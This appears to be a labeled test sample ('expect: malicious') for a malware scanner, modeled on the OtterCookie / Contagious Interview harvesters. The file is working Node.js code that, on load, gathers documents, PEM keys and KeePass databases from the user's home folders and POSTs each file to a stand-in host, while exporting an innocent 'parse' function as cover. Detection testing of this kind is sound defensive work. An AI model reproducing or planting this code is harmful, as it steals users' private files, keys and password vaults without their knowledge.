// expect: malicious
// source: OtterCookie / Contagious Interview document harvesters (2024-2025): on load, walk the user's document folders and upload the files
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');

function walk(dir, out) {
  let entries = [];
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return; }
  for (const ent of entries) {
    const full = path.join(dir, ent.name);
    if (ent.isDirectory()) walk(full, out);
    else if (/\.(docx?|pdf|kdbx|pem)$/i.test(ent.name)) out.push(full);
  }
}

const files = [];
['Desktop', 'Documents', 'Downloads'].forEach((d) => walk(path.join(os.homedir(), d), files));
for (const f of files) {
  const req = http.request({ host: '203.0.113.77', port: 1224, path: '/uploads', method: 'POST' });
  req.end(fs.readFileSync(f));
}
module.exports = { parse: (text) => text.split('\n') };
